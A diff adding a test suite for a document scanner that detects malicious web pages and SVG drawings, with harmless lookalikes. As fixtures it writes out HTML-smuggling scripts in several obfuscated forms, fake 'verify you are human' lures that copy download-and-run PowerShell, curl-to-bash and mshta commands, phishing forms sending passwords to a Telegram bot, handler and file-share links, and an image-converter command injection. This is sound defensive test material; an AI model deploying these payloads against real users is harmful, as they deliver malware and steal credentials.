@@ -1,0 +1,265 @@
+/** Pages and drawings: each attack, the attack in disguise, and a harmless page that resembles it. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { useInspector } from '#inspect/testing/inspector.ts'
+import { writeZip } from '#inspect/testing/zip-writer.ts'
+
+const { inspect } = useInspector()
+
+const PARAGRAPH =
+  '<p>This page has a paragraph of text that explains what it is about, so that there is something to read.</p>'
+const html = (script: string, body = PARAGRAPH): Uint8Array =>
+  Buffer.from(`<!DOCTYPE html><html><body>${body}<script>${script}</script></body></html>`)
+const svg = (content: string): Uint8Array => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`)
+
+/** The findings that count against a document. */
+function accusations(bytes: Uint8Array): string[] {
+  const { findings, obstacle } = inspect(bytes)
+  assert.equal(obstacle, null)
+  return findings.filter(({ severity }) => severity !== 'notice').map(({ id }) => id.replace('Docvet.', ''))
+}
+
+const has = (bytes: Uint8Array, id: string): void => assert.ok(accusations(bytes).includes(id), `${accusations(bytes)}`)
+const harmless = (bytes: Uint8Array): void => assert.deepEqual(accusations(bytes), [])
+
+const archive = Buffer.from(writeZip([{ name: 'invoice.txt', data: Buffer.from('text') }]))
+const SAVE =
+  'const l=document.createElement("a");l.href=URL.createObjectURL(new Blob([u]));l.download="invoice.zip";l.click();'
+const coded = archive.toString('base64')
+
+suite('a page that saves an archive from its own content', () => {
+  const BYTES = 'const u=new Uint8Array(s.length);for(let i=0;i<s.length;i++)u[i]=s.charCodeAt(i);'
+  const xored = Buffer.from(archive.map((byte, i) => byte ^ (i % 2 === 0 ? 0x6b : 0x79))).toString('base64')
+  const forms: [string, string][] = [
+    ['in Base64', `const s=atob("${coded}");${BYTES}${SAVE}`],
+    ['reversed', `const s=atob("${[...coded].reverse().join('')}".split("").reverse().join(""));${BYTES}${SAVE}`],
+    ['in pieces', `const p=["${coded.slice(0, 50)}","${coded.slice(50)}"];const s=atob(p.join(""));${BYTES}${SAVE}`],
+    ['as numbers', `const u=new Uint8Array([${archive.join(',')}]);${SAVE}`],
+    [
+      'as shifted numbers',
+      `const u=new Uint8Array([${archive.map((byte) => (byte + 7) & 255).join(',')}].map(n=>(n-7)&255));${SAVE}`,
+    ],
+    [
+      'with a key',
+      `const k="ky",s=[...atob("${xored}")].map((c,i)=>String.fromCharCode(c.charCodeAt(0)^k.charCodeAt(i%2))).join("");${BYTES}${SAVE}`,
+    ],
+    ['for old browsers', `const s=atob("${coded}");${BYTES}navigator.msSaveOrOpenBlob(new Blob([u]),"a.zip")`],
+    [
+      'as a data URL',
+      `const l=document.createElement("a");l.href="data:application/zip;base64,${coded}";l.download="a.zip";l.click()`,
+    ],
+  ]
+  for (const [name, script] of forms) test(name, () => has(html(script), 'Html.SmuggledFile'))
+
+  test('in a drawing', () =>
+    has(svg(`<script><![CDATA[const s=atob("${coded}");${BYTES}${SAVE}]]></script>`), 'Html.SmuggledFile'))
+
+  test('or a script', () => {
+    has(
+      html(
+        'const u="new ActiveXObject(1)";const l=document.createElement("a");l.href=URL.createObjectURL(new Blob([u]));l.download="a.js";l.click()',
+      ),
+      'Html.SmuggledFile',
+    )
+  })
+
+  test('or data that cannot be told', () => {
+    const noise = Buffer.from(Array.from({ length: 1200 }, (_, i) => (i * i * 31 + 7 * i + 129) & 255)).toString(
+      'base64',
+    )
+    has(html(`const s=atob("${noise}");${BYTES}${SAVE.replace('.zip', '')}`), 'Html.SmugglingParts')
+  })
+
+  test('but not a table', () => {
+    harmless(
+      html(
+        'b.onclick=()=>{const l=document.createElement("a");l.href=URL.createObjectURL(new Blob(["a,b\\n1,2"],{type:"text/csv"}));l.download="export.csv";l.click()}',
+      ),
+    )
+  })
+
+  test('and not a picture in Base64', () => {
+    const picture = Buffer.from(`\x89PNG\r\n\x1a\n${'\0'.repeat(2000)}`, 'latin1').toString('base64')
+    harmless(html(`const s=atob("${picture}");${BYTES}${SAVE.replace('invoice.zip', 'chart.png')}`))
+  })
+})
+
+suite('a page that makes the reader run a command', () => {
+  const COMMAND = 'powershell -w hidden -c "iwr https://example.com/a | iex"'
+  const LURE = '<p>Verify you are human: press Windows + R, then Ctrl + V and Enter.</p>'
+
+  test('from the clipboard', () =>
+    has(html(`navigator.clipboard.writeText(${JSON.stringify(COMMAND)})`, LURE), 'Html.ClickFix'))
+
+  test('built from pieces', () => {
+    const command = Buffer.from(COMMAND).toString('base64')
+    has(
+      html(
+        `document.onclick=()=>{const t=document.createElement("textarea");t.value=atob("${command}");t.select();document.execCommand("copy")}`,
+      ),
+      'Html.ClickFix',
+    )
+  })
+
+  test('kept in an attribute', () => {
+    has(
+      html(
+        'navigator.clipboard.writeText(document.getElementById("c").dataset.c)',
+        `${LURE}<i id=c data-c="mshta https://example.com/v"></i>`,
+      ),
+      'Html.ClickFix',
+    )
+  })
+
+  test('on a Mac', () => {
+    has(
+      html(
+        'navigator.clipboard.writeText("curl -fsSL https://example.com/a | bash")',
+        '<p>Verification: open Terminal, press Cmd + V.</p>',
+      ),
+      'Html.ClickFix',
+    )
+  })
+
+  test('shown as text only is suspicious', () => {
+    has(Buffer.from(`<html><body>${LURE}<code>mshta https://example.com/v</code></body></html>`), 'Html.CommandCopy')
+  })
+
+  test('but not documentation with a copy button', () => {
+    harmless(
+      html(
+        'document.querySelectorAll("button").forEach(b=>b.onclick=()=>navigator.clipboard.writeText(b.previousSibling.textContent))',
+        `${PARAGRAPH}<p>Install it in PowerShell:</p><pre>irm https://example.com/install.ps1 | iex</pre><button>Copy</button>`,
+      ),
+    )
+  })
+
+  test('and not a source line added to copied text', () => {
+    harmless(
+      html(
+        'document.oncopy=(e)=>e.clipboardData.setData("text/plain",getSelection()+"\\nSource: https://example.com/powershell")',
+      ),
+    )
+  })
+})
+
+suite('a page that asks for a password', () => {
+  const FIELDS = '<input name=user><input type=password name=p>'
+
+  test('and sends it to a server is suspicious', () => {
+    has(html('', `<form action="https://example.com/post" method=post>${FIELDS}</form>`), 'Html.CredentialForm')
+  })
+
+  test('and hides the form', () => {
+    const form = `<form action="https://example.com/post">${FIELDS}</form>`
+    has(
+      html(`document.write(unescape("${[...form].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}"))`),
+      'Html.Phishing',
+    )
+  })
+
+  test('and hides the address', () => {
+    has(html(`fetch(atob("${btoa('https://example.com/x')}"),{method:"POST",body:p.value})`, FIELDS), 'Html.Phishing')
+  })
+
+  test('and sends it to a bot', () => {
+    has(html('fetch("https://api.telegram.org/bot123:abc/sendMessage?text="+p.value)', FIELDS), 'Html.Phishing')
+  })
+
+  test('and knows the reader', () => {
+    const body = `<img src="data:image/png;base64,iVBORw0KGgo="><form action="https://example.com/p"><input value="reader@example.org">${FIELDS}</form>`
+    has(html('', body), 'Html.Phishing')
+  })
+
+  test('but keeps it', () =>
+    harmless(html('check(document.forms[0].p.value)', `<form action="/login">${FIELDS}</form>`)))
+
+  test('in a drawing', () => {
+    has(
+      svg(`<foreignObject><form action="https://example.com/p">${FIELDS}</form></foreignObject>`),
+      'Html.CredentialForm',
+    )
+  })
+})
+
+suite('a page that leads away', () => {
+  test('by a hidden address', () =>
+    has(html(`location.href=atob("${btoa('https://example.com/x')}")`), 'Html.Redirect'))
+  test('at once', () =>
+    has(Buffer.from('<html><meta http-equiv=refresh content="0;url=https://example.com/x"></html>'), 'Html.Redirect'))
+  test('but says so', () =>
+    harmless(
+      Buffer.from(
+        `<html><meta http-equiv=refresh content="5; URL='https://example.com/x'"><body>${PARAGRAPH}</body></html>`,
+      ),
+    ))
+  test('to a page beside it', () =>
+    harmless(Buffer.from('<html><meta http-equiv=refresh content="0;url=index.html"></html>')))
+  test('to a program', () =>
+    has(
+      html('location.href="search-ms:query=a&crumb=location:\\\\\\\\files.example\\\\share"'),
+      'Link.HandlerAutomatic',
+    ))
+})
+
+suite('links of a page', () => {
+  const link = (target: string) => Buffer.from(`<html><body>${PARAGRAPH}<a href="${target}">a</a></body></html>`)
+  const image = (target: string) => Buffer.from(`<html><body>${PARAGRAPH}<img src='${target}'></body></html>`)
+  test('to a troubleshooter', () => has(link('ms-msdt:/id PCWDiagnostic'), 'Link.Troubleshooter'))
+  test('to a remote search', () =>
+    has(link('search-ms:query=a&amp;crumb=location:%5C%5Cfiles.example%5Cs'), 'Link.RemoteHandler'))
+  test('with escaped letters', () => has(link('&#115;earch-ms:query=a'), 'Link.Handler'))
+  test('to a share', () => has(link('file://files.example/share/a.exe'), 'Link.FileServer'))
+  test('to a picture on a public file server', () =>
+    has(image(String.raw`\\203.0.113.5\a.png`), 'Link.FileServerAutomatic'))
+  test('to a picture on a server of the company', () => has(image('file://files/a.png'), 'Link.FileServer'))
+  test('to web pages, mail and parts of the page are harmless', () => {
+    for (const target of [
+      'https://example.com/',
+      'mailto:a@example.com',
+      '#top',
+      '//cdn.example/a',
+      'javascript:void(0)',
+      'file:///C:/a.htm',
+    ])
+      harmless(link(target))
+  })
+})
+
+suite('a drawing', () => {
+  test('with a script is suspicious', () => has(svg('<script>location="https://example.com/"</script>'), 'Svg.Script'))
+  test('with an event is suspicious', () => has(svg('<rect onclick="go()"/>'), 'Svg.Script'))
+  test('with a namespace prefix', () => {
+    has(Buffer.from('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>a()</s:script></s:svg>'), 'Svg.Script')
+  })
+  test('with a hidden address', () =>
+    has(svg(`<script>window.location.href=atob("${btoa('https://example.com/')}")</script>`), 'Svg.Redirect'))
+  test('that runs built text', () => has(svg(`<script>eval(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect'))
+  test('with references in its script', () =>
+    has(svg(`<script>&#101;val(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect'))
+  test('with a command for a converter', () =>
+    has(Buffer.from('<image authenticate=\'ff" `id`;"\'><read filename="pdf:a"/></image>'), 'Svg.ImageCommand'))
+  test('with shapes and labels in HTML is harmless', () => {
+    harmless(
+      svg(
+        '<rect width="1"/><a href="https://example.com"><text>a</text></a><foreignObject><div>label</div></foreignObject>',
+      ),
+    )
+  })
+})
+
+test('a control that starts a program', () => {
+  has(
+    Buffer.from(
+      '<html><object id=a classid="clsid:52a2aaae-085d-4187-97ea-8c30db990436"><param name=Item1 value=",cmd.exe, /c calc.exe"></object></html>',
+    ),
+    'Html.ControlCommand',
+  )
+  harmless(Buffer.from('<html><object data="a.svg"><param name=quality value="high"></object></html>'))
+})
+
+test('a page says that it has scripts and links', () => {
+  const { findings } = inspect(html('go()', `${PARAGRAPH}<a href="https://example.com/">a</a>`))
+  assert.deepEqual(findings.map(({ id }) => id).sort(), ['Docvet.Html.Links', 'Docvet.Html.Script'])
+})
